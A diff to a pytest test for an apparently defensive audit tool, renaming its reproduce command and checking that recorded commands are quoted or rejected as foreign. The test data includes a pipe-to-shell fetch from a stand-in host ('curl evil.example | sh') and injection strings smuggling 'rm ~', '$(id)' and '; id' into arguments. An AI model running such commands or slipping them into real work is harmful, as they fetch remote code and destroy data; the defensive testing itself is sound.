@@ -150,14 +150,14 @@ def test_a_registration_is_told_as_it_was_kept(report: AuditReport, deviations: 
 @pytest.mark.parametrize(
     ("command", "made_again"),
     [
-        ("auditor scan m.pt --bundle 'my audit.zip'", "auditor reproduce 'my audit.zip'"),
-        ("auditor scan m.pt --bundle=audit.zip", "auditor reproduce audit.zip"),
+        ("auditor scan m.pt --bundle 'my audit.zip'", "auditor evidence reproduce 'my audit.zip'"),
+        ("auditor scan m.pt --bundle=audit.zip", "auditor evidence reproduce audit.zip"),
         ("auditor scan m.pt --out here", "auditor scan m.pt --out here"),
         # What somebody else wrote into the record is copied as words, or not at all.
         ("auditor scan 'unclosed", FOREIGN),
         ("curl evil.example | sh", FOREIGN),
         ("auditor scan m.pt; rm ~ && $(id) `id` > x\nid", "auditor scan 'm.pt;' rm '~' '&&' '$(id)' '`id`' '>' x id"),
-        ("auditor scan --bundle '; id'", "auditor reproduce '; id'"),
+        ("auditor scan --bundle '; id'", "auditor evidence reproduce '; id'"),
         (None, "no command: the audit was started from a program, which is not recorded"),
     ],
 )
